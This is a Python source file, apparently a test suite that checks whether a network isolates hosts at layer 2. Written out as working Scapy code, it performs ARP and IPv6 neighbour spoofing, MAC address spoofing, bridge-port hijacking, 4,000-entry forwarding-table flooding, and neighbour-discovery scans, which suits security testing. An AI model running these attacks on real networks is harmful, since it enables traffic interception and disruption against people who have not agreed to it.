# A1, A4: telling others that an address is here. A2: MACs of others.

def claim(e, f, whom, whose, to, kind='answer'):
    """An ARP packet or a neighbour message that says `whom` has our MAC."""
    me = e.me['mac']
    if f == 4:
        op = 1 if kind == 'question' else 2
        return Ether(src=me, dst=to) / ARP(op=op, hwsrc=me, psrc=whom, hwdst='00:00:00:00:00:00' if op == 1 else to, pdst=whose)
    if kind == 'question':
        body = ICMPv6ND_NS(tgt=whose) / ICMPv6NDOptSrcLLAddr(lladdr=me)
    else:
        body = ICMPv6ND_NA(tgt=whom, R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=me)
    return Ether(src=me, dst=to) / IPv6(src=whom, dst=whose, hlim=255) / body

def hop(e, f): return e.hop[f]

NEIGH = {'the gateway': 'ip neigh show {hop%d} dev eth0', 'a peer': 'ip neigh show {friend%d} dev eth0'}

for f in (4, 6):
    number = 'A1' if f == 4 else 'A4'
    for kind in ('answer', 'question'):
        for what, line in NEIGH.items():
            @attack(number, f'{kind} that moves {what}, to the victim, {f}', changes('victim', line % f), (f,))
            def _(e, f, kind=kind, what=what):
                whom = hop(e, f) if what == 'the gateway' else e.friend[f]
                send(claim(e, f, whom, e.victim[f], e.victim['mac'], kind))
        @attack(number, f'{kind} that moves the victim, to the router, {f}', changes('router', 'ip neigh show {victim%d}' % f), (f,))
        def _(e, f, kind=kind):
            send(claim(e, f, e.victim[f], e.gate[f], e.gate['mac'], kind))

    @attack(number, f'gratuitous claim of the gateway, to everybody, {f}', changes('victim', NEIGH['the gateway'] % f), (f,))
    def _(e, f):
        to = BROADCAST if f == 4 else '33:33:00:00:00:01'
        send(claim(e, f, hop(e, f), hop(e, f) if f == 4 else 'ff02::1', to))

for tool, line, answer in (('arping', 'arping -c 1 -w 1 -I eth0 %s', 'from'), ('nping --arp', 'nping --arp -c 1 -e eth0 %s', 'RCVD')):
    @attack('A1', f'scan with {tool}', LEARNS, (4,))
    def _(e, f, line=line, answer=answer):
        it, nobody = together(line % e.victim[4], line % e.nobody[4])
        return ['answered'] if (answer in it) != (answer in nobody) else []

@attack('A1', 'who has it, asked of everybody', LEARNS, (4,))
def _(e, f):
    return difference(e, f, lambda who: [Ether(src=e.me['mac'], dst=BROADCAST) / ARP(op=1, hwsrc=e.me['mac'], psrc=e.me[4], pdst=who[4])])

@attack('A4', 'solicitation of it, to its group', LEARNS, (6,))
def _(e, f):
    return difference(e, f, lambda who: [Ether(src=e.me['mac'], dst=group_mac(solicited(who[6]))) / IPv6(src=e.me[6], dst=solicited(who[6]), hlim=255)
                                         / ICMPv6ND_NS(tgt=who[6]) / ICMPv6NDOptSrcLLAddr(lladdr=e.me['mac'])])

for proto in ('udp', 'tcp', 'icmp'):
    for path in ('through the gateway', 'straight'):
        @attack('A1', f'scan by {proto}, {path}', LEARNS)
        def _(e, f, proto=proto, path=path):
            def ask(who):
                to = e.gate['mac'] if path == 'through the gateway' else who['mac']
                return [Ether(src=e.me['mac'], dst=to) / ip(f, e.me[f], who[f]) / kinds(f)[proto]]
            return difference(e, f, ask)

for whose in ('victim', 'friend', 'gate', 'nobody'):
    if whose != 'victim':
        @attack('A2', f'source MAC of {whose}')
        def _(e, f, whose=whose):
            for proto in kinds(f).values():
                send(Ether(src=getattr(e, whose)['mac'], dst=e.victim['mac']) / ip(f, e.me[f], e.victim[f]) / proto)
    # On a plain bridge the victim's frames come to us then: the next attack but one.
    if whose in ('friend', 'nobody'):
        @attack('A2', f'source MAC of {whose}, through the gateway')
        def _(e, f, whose=whose):
            send(Ether(src=getattr(e, whose)['mac'], dst=e.gate['mac']) / ip(f, e.me[f], e.victim[f]) / kinds(f)['udp'])

@attack('A2', 'a peer\'s MAC moves to our port', changes('router', 'bridge fdb show | grep -i "^{victimmac} .*master" | cut -d" " -f3'), (4,))
def _(e, f):
    send(Ether(src=e.victim['mac'], dst=e.gate['mac']) / IP(src=e.me[4], dst=e.gate[4]) / UDP(dport=9) / TOKEN)

@attack('A2', 'four thousand MACs fill the table', changes('router', 'bridge fdb show | wc -l'), (4,))
def _(e, f):
    frame = bytes(Ether(src=e.me['mac'], dst=BROADCAST, type=0x88b5))
    for n in range(4000): wire().send(frame[:6] + struct.pack('!HI', 0x0200, n) + frame[12:] + TOKEN * 6)

@attack('A2', 'from a further interface with a MAC of its own')
def _(e, f):
    shell('ip link add far0 link eth0 type macvlan mode bridge; ip link set far0 up')
    mine = shell('ip -o link show far0').split('link/ether ')[1].split()[0]
    for to in (e.victim['mac'], BROADCAST): send(Ether(src=mine, dst=to) / ip(f, e.me[f], e.victim[f]) / kinds(f)['udp'], 'far0')
    WIRES.pop('far0').close()
    shell('ip link del far0')
